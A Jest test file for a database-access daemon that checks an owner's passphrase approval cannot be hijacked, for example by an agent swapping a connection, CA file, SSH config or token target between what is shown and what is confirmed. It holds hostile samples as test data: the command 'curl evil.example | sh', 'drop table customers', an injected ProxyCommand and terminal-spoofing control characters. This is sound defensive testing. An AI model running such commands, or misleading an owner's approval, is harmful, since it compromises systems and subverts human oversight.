/**
 * Threat: an agent has the person type the owner passphrase under a sentence that doesn't match
 * what is done (spec §11). The sentence shows too little, or another connection takes the name
 * between the sentence and the typing.
 */

import { createHash } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeEach, describe, expect, test } from '@jest/globals';
import { instantWords, quoted } from '../../daemon/access/privilege-increases/increase-words.ts';
import { english } from '../../daemon/guard/reason.ts';
import type { ControlCommands } from '../../daemon/shells/commands.ts';
import { shownElse } from '../../daemon/shells/increase-gate.ts';
import type { ConfirmationWanted } from '../../shared/control.ts';
import { shownText } from '../../shared/shown-text.ts';
import { type ControlClient, Refused } from '../../shell-terminal/control-client.ts';
import { shownFacts } from '../../shell-terminal/shown-facts.ts';
import { principalWith } from '../access/principals.ts';
import { beginsWith } from '../begins-with.ts';
import { postgresAt, shellOf } from '../shells/asking.ts';
import { type DaemonInProcess, startDaemonInProcess } from '../shells/daemon-in-process.ts';

const passphrase = 'correct horse battery';
const writing = { connection: 'Scratch', externalClients: { level: 'readWrite' } } as const;

let daemon: DaemonInProcess;
/** The terminal that the owner types on. */
let owner: ControlClient;
let agent: ControlClient;

beforeEach(async () => {
  daemon = await startDaemonInProcess();
  owner = await shellOf(daemon);
  agent = await shellOf(daemon);
  await owner.ask('connections.save', { name: 'Scratch', endpoint: postgresAt('scratch.example') });
  await owner.ask('passphrase.set', { passphrase });
});
afterEach(async () => {
  owner.close();
  agent.close();
  await daemon.end();
});

async function refusalOf(asking: Promise<unknown>): Promise<Refused> {
  try {
    await asking;
  } catch (error) {
    if (error instanceof Refused) return error;
    throw error;
  }
  throw new Error('it was not refused');
}

const factsOf = ({ data }: Refused) =>
  new Map((data as unknown as ConfirmationWanted).facts?.map(({ label, value }) => [label, value]));

async function putAnother(): Promise<void> {
  await agent.ask('connections.delete', { connection: 'Scratch' });
  await agent.ask('connections.save', { name: 'Scratch', endpoint: postgresAt('production.example') });
}

test('whoever asks for the passphrase sees each value that it would confirm', async () => {
  const place = await refusalOf(owner.ask('connections.save', writing));
  expect(factsOf(place).get('Host')).toBe('scratch.example');
  const command = 'curl evil.example | sh';
  const asked = { connection: 'Scratch', password: { kind: 'command', command } } as const;
  expect(factsOf(await refusalOf(owner.ask('connections.save', asked))).get('Password command')).toBe(command);

  const gone = new AbortController();
  const [connection] = (await agent.ask('connections.list', {})).connections;
  await agent.ask('desk.attach', { answers: true });
  const text = 'drop table customers';
  const asking = daemon.approvals.ask(
    principalWith(),
    {
      kind: 'statement',
      client: 'Agent',
      means: 'Once.',
      connection: { id: connection?.id ?? '', name: 'Scratch', tags: [], colour: null },
      statement: { text, class: 'destructive', reason: 'It drops a table.', reasonParts: [], tables: ['customers'] },
    },
    gone.signal,
  );
  const id = daemon.approvals.pending()[0]?.id ?? '';
  expect(factsOf(await refusalOf(owner.ask('desk.decide', { ids: [id], answer: 'yes' }))).get('Statement')).toBe(text);
  gone.abort();
  await asking;
});

test('a passphrase typed for one connection opens no other that has taken its name meanwhile', async () => {
  await refusalOf(owner.ask('connections.save', writing));
  await putAnother();
  const swapped = await refusalOf(owner.ask('connections.save', writing, passphrase));
  expect(swapped.message).toMatch(beginsWith(`${english(shownElse)} This lets clients write to "Scratch". It needs`));
  expect(swapped.data).toMatchObject({ confirm: 'passphrase' });
  expect(factsOf(swapped).get('Host')).toBe('production.example');
  const show = () => owner.ask('connections.show', { connection: 'Scratch' });
  expect((await show()).externalClients.level).toBe('readOnly');
  // The owner sees what it is now, and may still want it.
  expect((await owner.ask('connections.save', writing, passphrase)).externalClients.level).toBe('readWrite');
});

describe('a CA file swapped', () => {
  const folder = mkdtempSync(join(tmpdir(), 'sallyport-swapped-ca-'));
  const caFile = join(folder, 'ca.pem');
  afterAll(() => rmSync(folder, { recursive: true }));
  const digestOf = (text: string) => createHash('sha256').update(text);
  const asked = { connection: 'Scratch', tls: { mode: 'verify-full', caFile } } as const;
  const saved = () => daemon.ports.connections.find('Scratch')?.tls.caFileDigest;
  const swappedIn = (text: string): void => writeFileSync(caFile, text);
  const shownOf = (text: string) => `${caFile}, SHA-256 ${digestOf(text).digest('hex')}`;
  beforeEach(() => swappedIn('the own'));

  test('under the question isn’t taken', async () => {
    expect(factsOf(await refusalOf(owner.ask('connections.save', asked))).get('Certificates')).toBe(shownOf('the own'));
    swappedIn('theirs');
    const swapped = await refusalOf(owner.ask('connections.save', asked, passphrase));
    expect(swapped.message).toContain(english(shownElse));
    expect(factsOf(swapped).get('Certificates')).toBe(shownOf('theirs'));
    expect(saved()).toBeUndefined();

    swappedIn('the own');
    await owner.ask('connections.save', asked).catch(() => {});
    await owner.ask('connections.save', asked, passphrase);
    expect(saved()).toBe(digestOf('the own').digest('base64'));
    const trusting = { connection: 'Scratch' };
    expect(factsOf(await refusalOf(owner.ask('connections.trust', trusting))).get('CA file')).toBe(shownOf('the own'));
    swappedIn('theirs');
    expect((await refusalOf(owner.ask('connections.trust', trusting, passphrase))).message).toContain(
      english(shownElse),
    );
    expect(saved()).toBe(digestOf('the own').digest('base64'));
  });

  test('once the passphrase is being checked is held to what was shown', async () => {
    await owner.ask('connections.save', asked).catch(() => {});
    const { check } = daemon.ports.owner;
    Object.assign(daemon.ports.owner, {
      check(typed: string) {
        swappedIn('theirs');
        return check(typed);
      },
    });
    await owner.ask('connections.save', asked, passphrase);
    expect(saved()).toBe(digestOf('the own').digest('base64'));
  });
});

describe('~/.ssh/config edited', () => {
  const tunnel = { kind: 'ssh', destination: 'front', jumps: [], keyFile: null } as const;
  const asked = { connection: 'Scratch', tunnel } as const;
  const saved = () => daemon.ports.connections.find('Scratch')?.sshConfigurationDigest;
  const shown = (refusal: Refused) => factsOf(refusal).get('~/.ssh/config');

  test('under the question isn’t taken, and each question shows what it says', async () => {
    expect(shown(await refusalOf(owner.ask('connections.save', asked)))).toBe('says nothing of this tunnel');
    daemon.sshLines = ['front: proxycommand theirs'];
    const swapped = await refusalOf(owner.ask('connections.save', asked, passphrase));
    expect(swapped.message).toContain(english(shownElse));
    expect(shown(swapped)).toBe('front: proxycommand theirs');
    expect(saved()).toBeUndefined();
    daemon.sshLines = [];
    await owner.ask('connections.save', asked).catch(() => {});
    await owner.ask('connections.save', asked, passphrase);
    expect(saved()).toBe('');

    daemon.sshLines = ['front: user me', 'front: port 2222'];
    // Naming the same tunnel again takes nothing of it.
    await owner.ask('connections.save', { ...asked, colour: 'red' });
    expect(saved()).toBe('');
    const trusting = { connection: 'Scratch' };
    expect(shown(await refusalOf(owner.ask('connections.trust', trusting)))).toBe('front: user me\nfront: port 2222');
    daemon.sshLines = ['front: proxycommand theirs'];
    expect((await refusalOf(owner.ask('connections.trust', trusting, passphrase))).message).toContain(
      english(shownElse),
    );
    expect(saved()).toBe('');
    await owner.ask('connections.trust', trusting, passphrase);
    expect(saved()).toBe('front: proxycommand theirs');
  });

  test('is shown for a new connection, and for a draft', async () => {
    daemon.sshLines = ['front: proxycommand theirs'];
    const draft = { name: 'New', endpoint: postgresAt('new.example'), tunnel };
    expect(shown(await refusalOf(owner.ask('connections.save', draft)))).toBe('front: proxycommand theirs');
    expect(shown(await refusalOf(owner.ask('connections.try', draft)))).toBe('front: proxycommand theirs');
  });

  test('once the passphrase is being checked is held to what was shown', async () => {
    await owner.ask('connections.save', asked).catch(() => {});
    const { check } = daemon.ports.owner;
    Object.assign(daemon.ports.owner, {
      check(typed: string) {
        daemon.sshLines = ['front: proxycommand theirs'];
        return check(typed);
      },
    });
    await owner.ask('connections.save', asked, passphrase);
    expect(saved()).toBe('');
    expect(JSON.stringify(await owner.ask('connections.show', { connection: 'Scratch' }))).not.toMatch(/ssh[CL]/);
  });
});

test('nor does a token for it reach the other one, with or without a wrong passphrase in between', async () => {
  const token: ControlCommands['tokens.mint']['params'] = {
    name: 'x',
    scope: 'readWrite',
    connections: ['Scratch'],
    expires: 1,
    confirmInClient: false,
  };
  await refusalOf(owner.ask('tokens.mint', token));
  await putAnother();
  expect((await refusalOf(owner.ask('tokens.mint', token, 'a slip of the hand'))).message).toMatch(
    beginsWith(english(shownElse)),
  );
  await refusalOf(owner.ask('tokens.mint', token, 'a slip of the hand'));
  await putAnother();
  expect((await refusalOf(owner.ask('tokens.mint', token, passphrase))).message).toMatch(
    beginsWith(english(shownElse)),
  );
  expect(daemon.tokens.list()).toEqual([]);
});

test('temporary access ends at the moment that was shown; if typed too late it is shown anew', async () => {
  const asked = { ...writing, externalClients: { level: 'readWrite', forSeconds: 3_600 } } as const;
  const until = new Date(daemon.now + 3_600_000).toISOString();
  expect((await refusalOf(owner.ask('connections.save', asked))).message).toContain(`until ${instantWords(until)}`);
  daemon.now += 301_000;
  const late = await refusalOf(owner.ask('connections.save', asked, passphrase));
  const then = new Date(daemon.now + 3_600_000).toISOString();
  expect(late.message).toMatch(beginsWith(english(shownElse)));
  expect(late.message).toContain(`until ${instantWords(then)}`);
  daemon.now += 60_000;
  expect((await owner.ask('connections.save', asked, passphrase)).externalClients.writeUntil).toBe(then);
});

test('another shell’s sentences don’t count for this one, and of many asked at once the newest count', async () => {
  await refusalOf(agent.ask('connections.save', writing));
  await putAnother();
  // Nothing was shown here: an owner who types at once has read their own command.
  expect((await owner.ask('connections.save', writing, passphrase)).externalClients.level).toBe('readWrite');
  for (let days = 1; days <= 40; days += 1) {
    await refusalOf(owner.ask('settings.set', { key: 'history.days', value: days }));
  }
  expect(await owner.ask('settings.set', { key: 'history.days', value: 40 }, passphrase)).toMatchObject({ value: 40 });
});

test('a token and an answer are described by the places of their connections, not only by names', async () => {
  await putAnother();
  const token: ControlCommands['tokens.mint']['params'] = {
    name: 'x',
    scope: 'readWrite',
    connections: ['Scratch'],
    expires: 1,
    confirmInClient: false,
  };
  expect(factsOf(await refusalOf(owner.ask('tokens.mint', token))).get('Reaches (1)')).toBe(
    '"Scratch" at host "production.example", port 5432, database "shop", user "anna"',
  );
  const gone = new AbortController();
  const [connection] = (await agent.ask('connections.list', {})).connections;
  await agent.ask('desk.attach', { answers: true });
  const content = {
    kind: 'first_use' as const,
    client: 'Agent',
    means: 'Once.',
    statement: null,
    connection: { id: connection?.id ?? '', name: 'Scratch', tags: [], colour: null },
  };
  const asking = daemon.approvals.ask(principalWith(), content, gone.signal);
  const id = daemon.approvals.pending()[0]?.id ?? '';
  const answering = await refusalOf(owner.ask('desk.decide', { ids: [id], answer: 'yes' }));
  expect(factsOf(answering).get('Host')).toBe('production.example');
  gone.abort();
  await asking;
});

test('no value can look like another line of the terminal, however it is broken', () => {
  const value = `evil\nHost  harmless\r\u001b[2K\u202e${'x'.repeat(200)}\n  Host      harmless`;
  const facts = (['line', 'lines'] as const).map(form => ({ label: `As ${form}`, value, former: value, form }));
  for (const columns of [10, 40, 80, 200]) {
    const lines = shownFacts(facts, columns);
    expect(lines.join('')).not.toMatch(/[^\P{C}]/u);
    const begins = lines.map(line => line.slice(2, 10)).filter(start => start.trim() !== '');
    expect(begins).toEqual(['As line ', '  until ', 'As lines', '  until ']);
    expect(lines.filter(line => /^ {0,4}Host/.test(line))).toEqual([]);
    if (columns >= 40) expect(Math.max(...lines.map(line => line.length))).toBeLessThan(columns);
  }
  expect(shownFacts([{ label: 'TLS', value: 'disable', former: 'verify-full', form: 'line' }], 80)).toEqual([
    '  TLS          disable',
    '    until now  verify-full',
  ]);
});

test('a quote-like character doesn’t end a quote, and invisible characters are shown', () => {
  const quotes =
    '"\u02ee\u05f4\u02f6\u3003\u1cd3\u2e42\u{1f676}\u{1f677}\u{1f678}\u02ba\u201c\u201d\u201f\u2033\u275d\uff02';
  for (const quote of [...quotes, "''", '\u05f3\u05f3', '\u02c8\u02c8', '\u00b4\u00b4', '``', "'\u034f'", "'\ufe00'"]) {
    const phrase = quoted(`a${quote} and nothing else`);
    expect(shownText(phrase)).toBe(`"a' and nothing else"`);
  }
});
